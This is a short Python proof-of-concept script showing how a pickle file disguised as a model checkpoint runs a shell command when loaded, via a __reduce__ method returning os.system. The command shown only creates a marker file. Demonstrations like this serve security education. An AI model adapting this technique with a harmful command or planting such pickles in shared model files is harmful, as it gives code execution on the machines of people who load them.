"""A pickle that runs a command when Python loads it: `make` writes it, `load` is its victim.

    python3 attack.py make FILE
    python3 attack.py load FILE
"""

import os
import pickle
import sys

verb, path = sys.argv[1:]


class Attack:
    def __reduce__(self):
        return os.system, (f"touch {path}.was-here",)


if verb == "make":
    with open(path, "wb") as file:
        pickle.dump({"name": "model", "weights": Attack()}, file)
else:
    with open(path, "rb") as file:
        print("loaded", pickle.load(file))
